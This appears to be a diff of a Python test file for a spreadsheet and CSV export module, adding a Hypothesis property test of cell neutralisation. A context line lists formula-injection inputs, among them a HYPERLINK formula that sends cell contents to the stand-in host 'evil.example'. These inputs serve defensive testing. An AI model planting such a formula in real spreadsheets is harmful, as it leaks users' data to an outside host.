@@ -3,14 +3,17 @@
 from __future__ import annotations
 
 import csv
+import datetime as dt
 import io
 from pathlib import Path
 
+import hypothesis.strategies as st
 import pandas as pd
 import pytest
+from hypothesis import given, settings
 from openpyxl import load_workbook
 
-from homeroom.contract.tablefiles import csv_text, writer_for, xlsx_bytes
+from homeroom.contract.tablefiles import _plain, csv_text, neutral_frame, writer_for, xlsx_bytes
 
 NASTY = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-2", "@x", "\tx", "\rx"]
 
@@ -84,3 +87,25 @@ def test_parquet_keeps_exact_values(tmp_path: Path) -> None:
 
 def test_no_writer_for_another_suffix() -> None:
     assert writer_for(Path("out.txt")) is None
+
+
+_CELLS = st.one_of(
+    st.none(),
+    st.just(float("nan")),
+    st.text(alphabet="=+-@\t\rab1 '", max_size=4),
+    st.lists(st.integers(), max_size=2),
+    st.dictionaries(st.text(max_size=2), st.integers(), max_size=1),
+    st.datetimes(timezones=st.just(dt.UTC)),
+    st.integers(),
+)
+
+
+@settings(max_examples=60, deadline=None)
+@given(st.lists(_CELLS, min_size=1, max_size=8), st.booleans())
+def test_neutral_frame_is_plain_applied_to_every_cell(cells, text_only):
+    # The whole-column path for text must give what `_plain` gives cell by cell.
+    if text_only:
+        cells = [c for c in cells if c is None or isinstance(c, str)] or [None]
+    frame = pd.DataFrame({"cell": pd.Series(cells, dtype=object)})
+    expected = frame.assign(cell=frame["cell"].map(_plain, na_action="ignore").astype(object))
+    pd.testing.assert_frame_equal(neutral_frame(frame), expected)
